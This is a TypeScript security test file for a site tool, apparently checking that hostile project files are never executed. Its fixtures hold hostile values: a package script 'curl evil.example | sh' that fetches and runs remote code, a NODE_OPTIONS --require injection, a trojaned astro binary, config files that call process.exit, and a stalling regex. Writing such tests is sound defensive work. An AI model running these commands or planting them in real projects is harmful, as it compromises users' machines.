/** Bad inputs 59-64: schemas and programs of a site. */

import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { expect } from "vitest";
import { fieldsOf } from "#core/schema/fields";
import { validateFields } from "#core/schema/validate";
import { openSite } from "../services/support/site.ts";
import { photograph } from "../services/support/temporary-folder.ts";
import { codeOf, expectNowhere, page, readingOf, type BadInput } from "./bad-input.ts";

export const siteInputs: readonly BadInput[] = [
  {
    number: 59,
    what: "a schema file that ends the process, loops, or removes files",
    async check() {
      const marker = "hit";
      const code = `import { writeFileSync } from "node:fs"; writeFileSync(${JSON.stringify(marker)}, ""); globalThis.hit = 1; process.exit(3); for (;;) {}`;
      const { handlers, root, workspace } = await openSite({
        "package.json": '{"dependencies": {"astro": "5"}}',
        "astro.config.mjs": code,
        "src/content.config.ts": code,
        "src/content/config.ts": code,
        "src/content/posts/a.md": page("title: A\n"),
        "galley.schema.json": "process.exit(3)",
      });
      const before = await photograph(root);
      const { collections } = await handlers["library.read"]({ workspace });
      for (const { id } of collections) await handlers["schema.read"]({ workspace, collection: id });
      await handlers["problems.read"]({ workspace });
      await handlers["trust.read"]({ workspace });
      expect(await photograph(root)).toEqual(before);
      expect((globalThis as { hit?: number }).hit).toBeUndefined();
    },
    heldBy: [["tests/security/no-process.test.ts", "[SE1]"]],
  },
  {
    number: 60,
    what: "a schema of 500 fields, one that refers to itself, and a pattern that stalls",
    check() {
      const reading = readingOf(page(`title: ${"a".repeat(60)}!\n`));
      const stalls = { type: "object", properties: { title: { type: "string", pattern: "^(a+)+$" } } };
      expect(validateFields(stalls, reading)).toEqual([]);
      expect(fieldsOf(stalls)).toMatchObject([{ name: "title" }]);
      const lazy = { type: "object", properties: { title: { type: "string" }, child: { $ref: "#" } } };
      expect(validateFields(lazy, reading)).toEqual([]);
    },
    heldBy: [["tests/unit/core/schema/cost.test.ts", "500 fields are checked as any"]],
  },
  {
    number: 61,
    what: "scripts, settings and programs of a package that mean harm",
    async check() {
      const { handlers, root, workspace, services } = await openSite({
        "package.json": JSON.stringify({ scripts: { predev: "touch hit", dev: "curl evil.example | sh" } }),
        ".npmrc": "script-shell=/bin/false\n",
        ".env": "NODE_OPTIONS=--require ./hit.js\n",
        "node_modules/.bin/astro": "#!/bin/sh\ntouch hit\n",
        "a.md": page("title: A\n"),
      });
      const before = await photograph(root);
      const { state, commands, fingerprint } = await handlers["trust.read"]({ workspace });
      expect(state).toBe("restricted");
      expect(commands).toEqual([{ command: "npm run dev", runs: "touch hit && curl evil.example | sh" }]);
      expect(await services.isTrusted(workspace)).toBe(false);
      expect(await codeOf(handlers["trust.grant"]({ workspace, fingerprint: "other", parent: false }))).toBe(
        "changed-on-disk",
      );
      expect(fingerprint).toMatch(/^[0-9a-f]{64}$/);
      expect(await photograph(root)).toEqual(before);
      expect(before).not.toHaveProperty(join(root, "hit"));
    },
    heldBy: [["tests/services/trust/trust.test.ts", "[TR4]"]],
  },
  {
    number: 62,
    what: "a server that floods, hangs, forks or ignores its end",
    heldBy: [
      ["tests/services/trust/trust.test.ts", "prints within a limit, and ends with all that it started"],
    ],
  },
  {
    number: 63,
    what: "a server's page that breaks out",
    heldBy: [["tests/e2e/published.spec.ts", "[PU8]"]],
  },
  {
    number: 64,
    what: "a server that everybody can reach",
    // Hugo, Jekyll and Eleventy build and serve nothing; Astro's server is told where to listen.
    check: async () => {
      const bridge = await readFile(
        new URL("../../resources/publishers/astro-bridge.mjs", import.meta.url),
        "utf8",
      );
      expect(bridge).toMatch(/server: \{ host: "127\.0\.0\.1"/);
      expectNowhere(
        "{src/services/publishers/**/*.ts,resources/publishers/*}",
        /0\.0\.0\.0|host: true|--host(?! 127)/,
      );
    },
  },
];
